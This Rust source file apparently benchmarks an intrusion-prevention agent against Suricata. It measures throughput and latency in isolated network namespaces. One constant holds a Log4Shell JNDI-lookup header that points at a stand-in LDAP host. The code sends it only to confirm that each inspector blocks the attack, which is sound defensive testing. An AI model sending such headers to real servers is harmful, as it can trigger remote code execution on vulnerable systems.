//! Packets through the queue against packets past it: Gbit/s of a download, requests a second, and what the wait costs.
//!
//! Two namespaces, one web server of this program's own, no disk. Each side in turn on the same traffic: nothing; the
//! agent with our own rules, which lets the rest of a long answer by; the same judged to its end (a stream that states no
//! length); and Suricata on its own queue with the same rules, where it is installed. Each figure is the median of the
//! rounds; processor time is that of the inspecting processes.

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use sakimori_sys::lab::{End, Lab};

use crate::api::wait;
use crate::platform::{PATIENCE, Process, binary, profile, tail};

const SERVER: &str = "198.51.100.1:80";
const ATTACK: &str = "X-Api-Version: ${jndi:ldap://203.0.113.66/a}\r\n";

/// Options.
#[derive(Debug, clap::Args)]
pub struct Options {
    /// Rounds of each measurement.
    #[arg(long, default_value_t = 5)]
    rounds: usize,
    /// Mebibytes of one download.
    #[arg(long, default_value_t = 1_000)]
    mebibytes: usize,
    /// Requests of one round, each on a connection that is kept.
    #[arg(long, default_value_t = 5_000)]
    requests: usize,
    /// Folder with rules.
    #[arg(long, default_value = "content/network")]
    rules: PathBuf,
}

/// One side under test.
enum Side {
    Nothing,
    Agent(Process),
    Suricata(Process),
}

struct World {
    lab: Arc<Lab>,
    dir: tempfile::TempDir,
}

/// Runs it.
///
/// # Errors
/// A side that does not work.
pub fn run(options: &Options) -> Result<()> {
    println!("through the queue, {} build; medians of {} rounds", profile(), options.rounds);
    println!(
        "{:<24} {:>12} {:>14} {:>10} {:>10} {:>10}",
        "", "Gbit/s", "Gbit/s, judged", "requests/s", "p50 µs", "p99 µs"
    );
    let world = World::new()?;
    measure(options, &world, "no queue", |_| Ok(Side::Nothing))?;
    measure(options, &world, "Sakimori", agent)?;
    if Command::new("suricata").arg("-V").output().is_ok_and(|out| out.status.success()) {
        measure(options, &world, "Suricata", |world| suricata(world, &options.rules))?;
    } else {
        println!("suricata is not installed: not measured (Debian: apt-get install -t bookworm-backports suricata)");
    }
    Ok(())
}

impl World {
    fn new() -> Result<Self> {
        let mut lab = Lab::new("skminl")?;
        lab.add("server")?;
        lab.add("client")?;
        lab.join(
            End { namespace: "server", device: "s0", addresses: &["198.51.100.1/24"] },
            End { namespace: "client", device: "c0", addresses: &["198.51.100.2/24"] },
        )?;
        let listener = lab.inside("server", || TcpListener::bind(SERVER))??;
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                std::thread::spawn(move || serve(stream));
            }
        });
        Ok(Self { lab: Arc::new(lab), dir: tempfile::tempdir()? })
    }

    fn connect(&self) -> Result<TcpStream> {
        let address: SocketAddr = SERVER.parse()?;
        let stream = self.lab.inside("client", || TcpStream::connect_timeout(&address, Duration::from_secs(5)))??;
        stream.set_read_timeout(Some(Duration::from_secs(60)))?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }
}

/// Answers `/` with two bytes, `/counted?N` with N, `/open?N` with N and no length, and closes.
fn serve(mut stream: TcpStream) {
    // Head and body are two writes: the second must not wait for the first to be acknowledged.
    let _ = stream.set_nodelay(true);
    let block = vec![b'x'; 1 << 20];
    let mut bytes = Vec::new();
    let mut piece = [0; 4096];
    while let Ok(got @ 1..) = stream.read(&mut piece) {
        bytes.extend_from_slice(piece.get(..got).unwrap_or_default());
        while let Some(end) = bytes.windows(4).position(|four| four == b"\r\n\r\n") {
            let head: Vec<u8> = bytes.drain(..end + 4).collect();
            let line = String::from_utf8_lossy(&head).lines().next().unwrap_or_default().to_owned();
            let size = line.split('?').nth(1).and_then(|rest| rest.split(' ').next()?.parse().ok()).unwrap_or(2);
            let chunked = line.contains("/open");
            let head = if chunked {
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_owned()
            } else {
                format!("HTTP/1.1 200 OK\r\nContent-Length: {size}\r\n\r\n")
            };
            if stream.write_all(head.as_bytes()).is_err() {
                return;
            }
            let mut left: usize = size;
            while left > 0 {
                let part = block.get(..left.min(block.len())).unwrap_or_default();
                let before = if chunked { format!("{:x}\r\n", part.len()) } else { String::new() };
                let after = if chunked { "\r\n" } else { "" };
                let sent = [before.as_bytes(), part, after.as_bytes()].map(|bytes| stream.write_all(bytes));
                if sent.iter().any(Result::is_err) {
                    return;
                }
                left -= part.len();
            }
            if chunked && stream.write_all(b"0\r\n\r\n").is_err() {
                return;
            }
        }
    }
}

fn measure(options: &Options, world: &World, name: &str, start: impl FnOnce(&World) -> Result<Side>) -> Result<()> {
    let side = start(world).with_context(|| tail(&world.dir.path().join("side.log")))?;
    if !matches!(side, Side::Nothing) {
        let mut stream = world.connect()?;
        stream.set_read_timeout(Some(Duration::from_secs(2)))?;
        if ask(&mut stream, "/", ATTACK).is_ok() {
            bail!("{name} let an attack through");
        }
    }
    let (mut counted, mut judged, mut rates, mut times) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for _ in 0..options.rounds {
        counted.push(download(world, "counted", options.mebibytes)?);
        judged.push(download(world, "open", options.mebibytes)?);
        let began = Instant::now();
        let mut stream = world.connect()?;
        for _ in 0..options.requests {
            let at = Instant::now();
            ask(&mut stream, "/", "").context("a request was lost")?;
            times.push(at.elapsed());
        }
        rates.push(options.requests as f64 / began.elapsed().as_secs_f64());
    }
    times.sort_unstable();
    let place = |share: usize| times.get(times.len() * share / 100).map_or(0, Duration::as_micros);
    println!(
        "{name:<24} {:>12.2} {:>14.2} {:>10.0} {:>10} {:>10}",
        median(counted),
        median(judged),
        median(rates),
        place(50),
        place(99)
    );
    match side {
        Side::Nothing => {}
        Side::Agent(process) | Side::Suricata(process) => process.stop()?,
    }
    Ok(())
}

fn median(mut values: Vec<f64>) -> f64 {
    values.sort_by(f64::total_cmp);
    values.get(values.len() / 2).copied().unwrap_or_default()
}

fn ask(stream: &mut TcpStream, path: &str, headers: &str) -> Result<()> {
    stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: a.example\r\n{headers}\r\n").as_bytes())?;
    let mut got = Vec::new();
    let mut piece = [0; 1024];
    while !got.ends_with(b"\r\n\r\nxx") {
        let count = stream.read(&mut piece)?;
        if count == 0 {
            bail!("the connection ended");
        }
        got.extend_from_slice(piece.get(..count).unwrap_or_default());
    }
    Ok(())
}

/// Gbit/s of one answer.
fn download(world: &World, path: &str, mebibytes: usize) -> Result<f64> {
    let size = mebibytes << 20;
    let mut stream = world.connect()?;
    let began = Instant::now();
    stream.write_all(format!("GET /{path}?{size} HTTP/1.1\r\nHost: a.example\r\n\r\n").as_bytes())?;
    let mut piece = vec![0; 1 << 20];
    let mut got = 0;
    while got < size {
        let count = stream.read(&mut piece)?;
        if count == 0 {
            bail!("the answer ended after {got} bytes");
        }
        got += count;
    }
    Ok(got as f64 * 8.0 / began.elapsed().as_secs_f64() / 1e9)
}

fn agent(world: &World) -> Result<Side> {
    let state = world.dir.path().join("state");
    let config = world.dir.path().join("agent.toml");
    fs::write(
        &config,
        format!(
            "[agent]\nstate = \"{}\"\n[block_address]\ntable = \"skm_inline_bench\"\n\
             [intrusion_prevention]\ntable = \"skm_inline_bench\"\n[policy.modules]\n\
             log_inspection.state = \"off\"\nblock_address.mode = \"detect\"\n\
             intrusion_prevention.state = \"on\"\nintrusion_prevention.mode = \"prevent\"\n",
            state.display()
        ),
    )?;
    let program = binary("sakimori-agent")?;
    let mut command = world.lab.command("server", &program)?;
    command.arg("--config").arg(&config).arg("run");
    let process = Process::start(command, &world.dir.path().join("side.log"))?;
    wait("the agent inspects", PATIENCE, || {
        let asked = Command::new(&program).arg("--config").arg(&config).args(["status", "--json"]).output();
        let status = asked.ok().and_then(|out| serde_json::from_slice::<serde_json::Value>(&out.stdout).ok());
        status.is_some_and(|status| {
            let modules = status.get("modules").and_then(serde_json::Value::as_array).cloned().unwrap_or_default();
            let text =
                |one: &serde_json::Value, key: &str| one.get(key).and_then(|value| value.as_str().map(str::to_owned));
            modules.iter().any(|one| {
                text(one, "id").as_deref() == Some("intrusion_prevention")
                    && text(one, "state").as_deref() == Some("on")
            })
        })
    })?;
    Ok(Side::Agent(process))
}

/// Suricata on a queue of its own, with the rules of the folder, each to its own defaults else.
fn suricata(world: &World, rules: &Path) -> Result<Side> {
    let mut all = String::new();
    let mut files: Vec<PathBuf> = fs::read_dir(rules)?.flatten().map(|entry| entry.path()).collect();
    files.sort();
    for file in files.iter().filter(|file| file.extension().is_some_and(|ending| ending == "rules")) {
        all.push_str(&fs::read_to_string(file)?);
    }
    let (list, logs) = (world.dir.path().join("all.rules"), world.dir.path().join("suricata"));
    fs::write(&list, all)?;
    fs::create_dir_all(&logs)?;
    for chain in ["INPUT", "OUTPUT"] {
        let mut add = world.lab.command("server", "iptables-nft")?;
        add.args(["-A", chain, "-j", "NFQUEUE", "--queue-num", "5", "--queue-bypass"]);
        let status = add.status().context("cannot run iptables-nft (Debian: apt-get install iptables)")?;
        if !status.success() {
            bail!("iptables-nft does not take the queue rule");
        }
    }
    let mut command = world.lab.command("server", "suricata")?;
    command.args(["-q", "5", "--runmode", "workers", "-c", "/etc/suricata/suricata.yaml", "-S"]).arg(&list);
    command.arg("-l").arg(&logs).args(["--set", "nfq.fail-open=yes", "--set", "nfq.batchcount=20"]);
    let process = Process::start(command, &world.dir.path().join("side.log"))?;
    wait("Suricata inspects", PATIENCE, || {
        fs::read_to_string(world.dir.path().join("side.log"))
            .is_ok_and(|text| text.contains("Engine started") || text.contains("all 1 packet processing threads"))
            || fs::read_to_string(logs.join("suricata.log")).is_ok_and(|text| text.contains("Engine started"))
    })?;
    Ok(Side::Suricata(process))
}
